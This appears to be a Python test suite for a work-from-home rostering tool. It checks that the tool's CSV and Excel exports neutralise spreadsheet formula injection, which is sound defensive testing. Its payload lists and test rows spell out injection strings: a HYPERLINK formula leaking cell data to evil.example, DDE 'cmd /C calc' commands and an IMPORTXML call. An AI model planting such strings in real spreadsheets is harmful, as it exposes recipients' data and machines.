"""Tests that no text a writer puts in a CSV or Excel cell can be read as a formula (OWASP).

Hostile names, NIPs, unit and sub-unit names are generated (any trigger `= + - @`, tab, CR,
full-width forms, hidden behind spaces or control characters), written by every writer, read
back, and every text cell checked: it either cannot start a formula or starts with `'`.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import numpy as np
import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from tests import workbooks
from wfh_solver.domain.calendar import Calendar
from wfh_solver.domain.employee import Category, Employee
from wfh_solver.result import AppliedRule, Result, Roster, RuleCount, Status
from wfh_solver.write import write_csv, write_xlsx
from wfh_solver.write.neutral import neutralise
from wfh_solver.write.ooxml import clean_text

DAYS = (date(2020, 3, 23), date(2020, 3, 24))
# What a spreadsheet may take for the start of a formula (the OWASP list, full-width forms).
DANGER = re.compile("[\t\r]|[\\s\x00-\x1f\x7f]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", " =", "\x01=", "\uff1d", "\uff20", "  @"]
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"klik")', "1+1", "SUM(1)",
            "cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"http://x/\",A1))"]

hostile = st.builds(lambda t, p, tail: t + p + tail, st.sampled_from(TRIGGERS),
                    st.sampled_from(PAYLOADS), st.text(max_size=8))


def _safe(text: object) -> bool:
    return not isinstance(text, str) or text.startswith("'") or not DANGER.match(text)


def _result(fields: list[tuple[str, str, str, str]]) -> Result:
    employees = tuple(
        Employee(nip=nip, name=name, unit=unit, sub_unit=sub, position=name,
                 category=Category.PELAKSANA, status="ptt")
        for nip, name, unit, sub in fields)
    office = np.array([[(i + d) % 2 == 0 for d in range(len(DAYS))]
                       for i in range(len(employees))], dtype=bool)
    units = sorted({e.unit for e in employees})
    counts = tuple(RuleCount(f"{u} aturan", "min_present", u, "",
                             tuple(i for i, e in enumerate(employees) if e.unit == u), minimum=1)
                   for u in units)
    return Result(
        scenario_name="uji", scenario_title="=judul", source="@sumber",
        calendar=Calendar(DAYS[0], DAYS[-1], DAYS, (), "mon-fri"),
        roster=Roster(employees, DAYS, office), status=Status.OPTIMAL, levels=(),
        rule_counts=counts,
        applied_rules=(AppliedRule("-aturan", "min_present", "+uraian", 1),),
        warnings=tuple(f"{u}: peringatan" for u in units), choices=("=pilihan",))


def _xlsx_texts(path: Path) -> list[str]:
    book = CalamineWorkbook.from_path(str(path))
    return [cell for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python() for cell in row
            if isinstance(cell, str)]


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(hostile, hostile, hostile, hostile), min_size=1, max_size=4))
def test_generated_hostile_text_is_neutralised_in_csv_and_xlsx(tmp_path, people):
    """Tests every cell of the CSV and of every workbook sheet for a formula-like start."""
    fields = [(f"{nip}{k}", name, unit or "u", sub) for k, (nip, name, unit, sub)
              in enumerate(people)]
    result = _result(fields)
    write_csv(result, tmp_path / "j.csv")
    with open(tmp_path / "j.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert len(rows) == 1 + len(fields) * len(DAYS)
    assert all(_safe(cell) for row in rows for cell in row)
    write_xlsx(result, tmp_path / "j.xlsx")
    texts = _xlsx_texts(tmp_path / "j.xlsx")
    assert all(_safe(text) for text in texts), [t for t in texts if not _safe(t)]
    # nothing else changed: the neutralised name is the name with one apostrophe in front
    name = fields[0][1]
    assert neutralise(clean_text(name)) in texts


def test_harmless_text_is_left_alone():
    """Tests that ordinary names, NIPs, hyphens inside text and empty text are not touched."""
    for text in ("Drs. Budi Santoso, M.Si.", "196503121990031005", "Sub-bagian Umum", "",
                 "a=b", "R. A. Kartini", "'sudah"):
        assert neutralise(text) == text
    assert neutralise("=1+1") == "'=1+1" and neutralise("\t=1") == "'\t=1"


def test_installed_script_neutralises_hostile_nip_name_and_unit(tmp_path):
    """Tests the console script end to end: non-ASN rows with formula NIPs, names and units."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(workbooks.HEADER)
    for row in workbooks.ROWS:
        sheet.append(row)
    hostile_rows = [
        ['=HYPERLINK("http://x","y")', "+1+1", "Dinas Kesehatan", "@SUM(1)", "Staf", "-", "",
         "PTT"],
        ["@SUM(A1:A9)", '=cmd|" /C calc"!A0', "-Dinas Rahasia", "", "Staf", "-", "", "Honorer"],
        ["+6281234", "-Budi", "Dinas Kesehatan", "", "Staf", "-", "", "PTT"],
    ]
    for row in hostile_rows:
        sheet.append(row)
    for r in range(len(workbooks.ROWS) + 2, sheet.max_row + 1):
        for c in range(1, 9):
            sheet.cell(row=r, column=c).data_type = "s"  # text cells, as an export has them
    book.save(tmp_path / "p.xlsx")
    script = Path(sys.executable).with_name("wfh-solver")
    env = {**os.environ, "LANG": "C.UTF-8"}
    for out in ("j.csv", "j.xlsx"):
        done = subprocess.run([str(script), "solve", str(tmp_path / "p.xlsx"), "-s",
                               "kebumen-2020", "-o", str(tmp_path / out), "-q"],
                              capture_output=True, text=True, timeout=300, env=env)
        assert done.returncode == 0, done.stderr
    with open(tmp_path / "j.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh, delimiter=";") for cell in row]
    texts = _xlsx_texts(tmp_path / "j.xlsx")
    for where in (cells, texts):
        assert all(_safe(cell) for cell in where)
        assert {"'=HYPERLINK(\"http://x\",\"y\")", "'+1+1", "'@SUM(A1:A9)", "'-Dinas Rahasia",
                "'+6281234", "'-Budi"} <= set(where)


def test_a_trailing_carriage_return_survives_the_workbook(tmp_path):
    """Tests a name ending in CR: neutralised, and kept whole (xml:space is judged on the
    text, not on its escaped `&#13;`), as Hypothesis once found."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"klik")\r'
    write_xlsx(_result([("=H0", name, "=u", "=s")]), tmp_path / "j.xlsx")
    assert neutralise(name) in _xlsx_texts(tmp_path / "j.xlsx")
